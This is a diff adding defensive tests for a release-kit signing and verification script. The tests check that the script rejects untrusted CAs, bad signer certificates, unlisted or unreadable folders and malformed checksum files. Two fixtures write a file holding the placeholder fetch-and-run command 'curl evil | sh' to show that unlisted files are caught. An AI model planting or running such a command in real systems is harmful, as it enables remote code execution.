@@ -69,11 +69,11 @@ function enclave(args: string[], pin?: string) {
   return { code: result.status, stdout: result.stdout, stderr: result.stderr };
 }
 
-function verify(args: string[], options: { script?: string; cwd?: string } = {}) {
+function verify(args: string[], options: { script?: string; cwd?: string; env?: NodeJS.ProcessEnv } = {}) {
   const result = spawnSync('dash', [options.script ?? verifier, ...args], {
     encoding: 'utf8',
     cwd: options.cwd ?? work,
-    env: { ...process.env, TMPDIR: verifierTmp },
+    env: { ...process.env, TMPDIR: verifierTmp, ...options.env },
     timeout: 60_000,
   });
   return { code: result.status, stdout: result.stdout, stderr: result.stderr };
@@ -95,9 +95,12 @@ function filesUnder(dir: string): string[] {
     .sort((a, b) => Buffer.compare(Buffer.from(a), Buffer.from(b)));
 }
 
-/** SHA384SUMS then SHA256SUMS, in the text sha256sum and `openssl dgst -r` write, sorted by path bytewise. */
-function writeSums(dir: string): void {
-  rmSync(join(dir, 'SHA384SUMS'), { force: true });
+/**
+ * SHA384SUMS then SHA256SUMS, in the text sha256sum and `openssl dgst -r` write, sorted by path
+ * bytewise. `keep384` keeps the SHA384SUMS there is (to test a broken one under a good SHA256SUMS).
+ */
+function writeSums(dir: string, options: { keep384?: boolean } = {}): void {
+  if (!options.keep384) rmSync(join(dir, 'SHA384SUMS'), { force: true });
   rmSync(join(dir, 'SHA256SUMS'), { force: true });
   const sums = (hash: string, names: string[]) =>
     names
@@ -108,8 +111,8 @@ function writeSums(dir: string): void {
             .digest('hex')}  ${name}\n`,
       )
       .join('');
-  const listed = filesUnder(dir).filter((name) => name !== 'SHA256SUMS.cms');
-  writeFileSync(join(dir, 'SHA384SUMS'), sums('sha384', listed));
+  const listed = filesUnder(dir).filter((name) => name !== 'SHA256SUMS.cms' && name !== 'SHA384SUMS');
+  if (!options.keep384) writeFileSync(join(dir, 'SHA384SUMS'), sums('sha384', listed));
   writeFileSync(
     join(dir, 'SHA256SUMS'),
     sums(
@@ -142,6 +145,33 @@ const sign = (dir: string, certificate = signerCert, pin = token.pin) =>
     ],
     pin,
   );
+
+/** Re-signs `dir`'s SHA256SUMS as it is with a software key, carrying `carry` (the intermediate unless given). */
+function signWithSoftwareKey(dir: string, signer: { key: string; certificate: string }, carry?: string): void {
+  openssl(
+    [
+      'cms',
+      '-sign',
+      '-binary',
+      '-nosmimecap',
+      '-md',
+      'sha384',
+      '-in',
+      'SHA256SUMS',
+      '-signer',
+      signer.certificate,
+      '-inkey',
+      signer.key,
+      '-certfile',
+      carry ?? intermediate.certificate,
+      '-outform',
+      'DER',
+      '-out',
+      'SHA256SUMS.cms',
+    ],
+    { cwd: dir },
+  );
+}
 
 const failures = (stdout: string) => stdout.split('\n').filter((line) => line.startsWith('FAIL  '));
 
@@ -319,29 +349,7 @@ describe('enclave release key and sign, verify-release.sh (SoftHSM2, openssl CA,
       ],
     ] as const) {
       const copy = copyKit('resigned');
-      openssl(
-        [
-          'cms',
-          '-sign',
-          '-binary',
-          '-nosmimecap',
-          '-md',
-          'sha384',
-          '-in',
-          'SHA256SUMS',
-          '-signer',
-          signer.certificate,
-          '-inkey',
-          signer.key,
-          '-certfile',
-          intermediate.certificate,
-          '-outform',
-          'DER',
-          '-out',
-          'SHA256SUMS.cms',
-        ],
-        { cwd: copy },
-      );
+      signWithSoftwareKey(copy, signer);
       const result = verify(['--kit', copy, '--ca', root.certificate]);
       expect(result.code, case_).toBe(1);
       expect(result.stdout, case_).toMatch(/^ok {4}signature: /m);
@@ -458,5 +466,204 @@ describe('enclave release key and sign, verify-release.sh (SoftHSM2, openssl CA,
     const noSums = sign(empty);
     expect(noSums.code).toBe(2);
     expect(noSums.stderr).toMatch(/The checksum list .*SHA256SUMS does not exist\./);
+  });
+
+  it("trusts only the site's release CA: a root in the machine's default store (SSL_CERT_DIR, SSL_CERT_FILE) is not", () => {
+    // A code-signing certificate from some CA the machine trusts for TLS, that CA carried in the
+    // signature and its CRL in the kit: openssl would accept it unless told to trust only --ca.
+    const system = OpensslCa.root(join(work, 'system-ca'), '/CN=Some System Root');
+    const signer = system.issueSoftwareKey(work, 'system-signer', '/CN=Someone with a commercial cert', 'codeSigning');
+    const store = join(work, 'system-store');
+    mkdirSync(store);
+    const hash = openssl(['x509', '-in', system.certificate, '-noout', '-hash']).trim();
+    copyFileSync(system.certificate, join(store, `${hash}.0`));
+    const copy = copyKit('system-root');
+    copyFileSync(system.crl(join(work, 'system.crl')), join(copy, 'release-ca.crl'));
+    writeSums(copy);
+    signWithSoftwareKey(copy, signer, system.certificate);
+    const result = verify(['--kit', copy, '--ca', root.certificate], {
+      env: { SSL_CERT_DIR: store, SSL_CERT_FILE: system.certificate },
+    });
+    expect(result.code, result.stdout).toBe(1);
+    expect(result.stdout).not.toContain('signed by the release CA');
+    expect(failures(result.stdout)).toEqual([
+      'FAIL  certificate: SHA256SUMS.cms: self-signed certificate in certificate chain (depth 1)',
+    ]);
+  });
+
+  it('refuses a CA file with a second certificate under another PEM label (X509 CERTIFICATE, TRUSTED CERTIFICATE)', () => {
+    for (const label of ['X509 CERTIFICATE', 'TRUSTED CERTIFICATE']) {
+      const file = join(work, `ca-plus-${label.replace(' ', '-')}.pem`);
+      const second = readFileSync(intermediate.certificate, 'utf8').replaceAll('CERTIFICATE-----', `${label}-----`);
+      writeFileSync(file, readFileSync(root.certificate, 'utf8') + second);
+      const result = verify(['--kit', kit, '--ca', file]);
+      expect(result.code, label).toBe(1);
+      expect(failures(result.stdout)[0], label).toBe(
+        `FAIL  release CA: ${file.split('/').at(-1)}: must hold exactly one certificate`,
+      );
+    }
+  });
+
+  it('fails on a folder in the kit that SHA256SUMS does not account for, empty or unreadable', () => {
+    const empty = copyKit('empty-folder');
+    mkdirSync(join(empty, 'app', 'plugins'));
+    expect(failures(verify(['--kit', empty, '--ca', root.certificate]).stdout)).toEqual([
+      'FAIL  unlisted: app/plugins: a folder in the kit that holds no file SHA256SUMS lists',
+    ]);
+
+    // A folder the site's (non-root) user cannot read hides what is in it: the check must not pass.
+    // The tests run as root, for whom mode 000 hides nothing, so the verifier runs as nobody.
+    const nobody = spawnSync('id', ['-u', 'nobody']).status === 0;
+    const setpriv = spawnSync('setpriv', ['--version']).status === 0;
+    if (!nobody || !setpriv || process.getuid?.() !== 0) {
+      // Without user nobody, setpriv, or root to switch to it, an unreadable folder cannot be made here.
+      return;
+    }
+    const shared = mkdtempSync(join(tmpdir(), 'enclave-release-nobody-'));
+    try {
+      const hiddenKit = join(shared, 'kit');
+      cpSync(kit, hiddenKit, { recursive: true });
+      mkdirSync(join(hiddenKit, 'hidden'));
+      writeFileSync(join(hiddenKit, 'hidden', 'payload.sh'), 'curl evil | sh\n');
+      copyFileSync(root.certificate, join(shared, 'release-ca.pem'));
+      copyFileSync(verifier, join(shared, 'verify-release.sh'));
+      mkdirSync(join(shared, 'tmp'));
+      spawnSync('chmod', ['-R', 'a+rX', shared]);
+      spawnSync('chmod', ['a+rwx', join(shared, 'tmp')]);
+      spawnSync('chmod', ['000', join(hiddenKit, 'hidden')]);
+      const asNobody = spawnSync(
+        'setpriv',
+        [
+          '--reuid=nobody',
+          '--regid=nogroup',
+          '--clear-groups',
+          'dash',
+          join(shared, 'verify-release.sh'),
+          '--kit',
+          hiddenKit,
+          '--ca',
+          join(shared, 'release-ca.pem'),
+        ],
+        {
+          encoding: 'utf8',
+          cwd: shared,
+          env: { PATH: process.env.PATH, TMPDIR: join(shared, 'tmp') },
+          timeout: 60_000,
+        },
+      );
+      expect(asNobody.status, asNobody.stdout + asNobody.stderr).toBe(1);
+      expect(failures(asNobody.stdout)).toContainEqual(
+        expect.stringMatching(
+          /^FAIL {2}unlisted: \.: cannot read every folder of the kit \(.*hidden.*Permission denied\)$/,
+        ),
+      );
+      expect(asNobody.stdout).not.toContain('ok    unlisted');
+    } finally {
+      spawnSync('chmod', ['700', join(shared, 'kit', 'hidden')]);
+      rmSync(shared, { recursive: true, force: true });
+    }
+  });
+
+  it('refuses a signer whose only extended key usage merely reads "Code Signing", a P-256 key, and a CA certificate', () => {
+    const msCodeInd = intermediate.issueSoftwareKey(work, 'ms', '/CN=Microsoft style signer', 'msCodeIndOnly');
+    const p256 = intermediate.issueSoftwareKey(work, 'p256', '/CN=NIST CURVE: P-384', 'codeSigning', 'P-256');
+    const caLeaf = intermediate.issueSoftwareKey(work, 'ca-leaf', '/CN=A CA that signs', 'caCodeSigning');
+    for (const [case_, signer, reason] of [
+      [
+        'msCodeInd only',
+        msCodeInd,
+        'FAIL  certificate: SHA256SUMS.cms: the signer certificate (CN=Microsoft style signer) does not allow code signing (no codeSigning extended key usage)',
+      ],
+      ['P-256 key', p256, 'FAIL  signature: SHA256SUMS.cms: the signer key is not ECDSA P-384'],
+      [
+        'CA:TRUE leaf',
+        caLeaf,
+        'FAIL  certificate: SHA256SUMS.cms: the signer certificate (CN=A CA that signs) is a CA certificate (basicConstraints CA:TRUE), not a signer',
+      ],
+    ] as const) {
+      const copy = copyKit('leaf');
+      signWithSoftwareKey(copy, signer);
+      const result = verify(['--kit', copy, '--ca', root.certificate]);
+      expect(result.code, case_).toBe(1);
+      expect(failures(result.stdout)[0], case_).toBe(reason);
+    }
+  });
+
+  it('never says ok for what it did not check: no CRL, or a sums file whose last line has no newline', () => {
+    const noCrl = copyKit('no-crl-again');
+    rmSync(join(noCrl, 'release-ca.crl'));
+    writeSums(noCrl);
+    expect(sign(noCrl).code).toBe(0);
+    const unchecked = verify(['--kit', noCrl, '--ca', root.certificate]);
+    expect(unchecked.code).toBe(1);
+    expect(unchecked.stdout).not.toMatch(/^ok {4}certificate:/m);
+    expect(failures(unchecked.stdout)).toContain(
+      'FAIL  certificate: SHA256SUMS.cms: revocation cannot be checked: no CRL (give --crl, or --no-crl)',
+    );
+
+    // SHA384SUMS covered by a good signature, its last line unterminated: a `while read` skips it.
+    const short384 = copyKit('short-384');
+    const text384 = readFileSync(join(short384, 'SHA384SUMS'), 'utf8');
+    writeFileSync(join(short384, 'SHA384SUMS'), text384.slice(0, -1));
+    writeSums(short384, { keep384: true });
+    const signed = sign(short384);
+    expect(signed.stderr).toBe('');
+    const result384 = verify(['--kit', short384, '--ca', root.certificate]);
+    expect(result384.code).toBe(1);
+    expect(result384.stdout).not.toMatch(/^ok {4}sha384:/m);
+    expect(failures(result384.stdout)).toEqual([
+      'FAIL  sha384: SHA384SUMS: malformed: the last line does not end with a newline',
+    ]);
+
+    // The same for SHA256SUMS (which enclave release sign refuses; signed here with openssl).
+    const short256 = copyKit('short-256');
+    const text256 = readFileSync(join(short256, 'SHA256SUMS'), 'utf8');
+    writeFileSync(join(short256, 'SHA256SUMS'), text256.slice(0, -1));
+    const software = intermediate.issueSoftwareKey(work, 'soft', '/CN=Software signer', 'codeSigning');
+    signWithSoftwareKey(short256, software);
+    const result256 = verify(['--kit', short256, '--ca', root.certificate]);
+    expect(result256.code).toBe(1);
+    expect(failures(result256.stdout)[0]).toBe(
+      'FAIL  checksum: SHA256SUMS: malformed: the last line does not end with a newline',
+    );
+  });
+
+  it('sign refuses a kit whose files do not match SHA256SUMS, an unlisted file or folder, and a path listed twice', () => {
+    const cases: [string, (dir: string) => void, string][] = [
+      [
+        'changed file',
+        (dir) => writeFileSync(join(dir, 'app', 'app.asar'), 'altered in transit'),
+        'app/app.asar: its SHA-256 does not match SHA256SUMS',
+      ],
+      ['missing file', (dir) => rmSync(join(dir, 'bin', 'enclave')), 'bin/enclave: listed in SHA256SUMS but missing'],
+      [
+        'unlisted file',
+        (dir) => writeFileSync(join(dir, 'app', 'payload.sh'), 'curl evil | sh\n'),
+        'app/payload.sh: in the kit but not in SHA256SUMS',
+      ],
+      [
+        'unlisted folder',
+        (dir) => mkdirSync(join(dir, 'app', 'plugins')),
+        'app/plugins: a folder in the kit that holds no file SHA256SUMS lists',
+      ],
+      [
+        'listed twice',
+        (dir) => {
+          const sums = readFileSync(join(dir, 'SHA256SUMS'), 'utf8');
+          writeFileSync(join(dir, 'SHA256SUMS'), sums + sums.split('\n')[0] + '\n');
+        },
+        'line 10 lists RELEASE-NOTES.md twice',
+      ],
+    ];
+    for (const [case_, damage, reason] of cases) {
+      const copy = copyKit('unsigned');
+      damage(copy);
+      const before = readFileSync(join(copy, 'SHA256SUMS.cms'));
+      const signed = sign(copy);
+      expect(signed.code, case_).toBe(1);
+      expect(signed.stderr, case_).toContain(reason);
+      expect(signed.stderr, case_).toContain('Nothing was signed.');
+      expect(readFileSync(join(copy, 'SHA256SUMS.cms')).equals(before), case_).toBe(true);
+    }
   });
 });
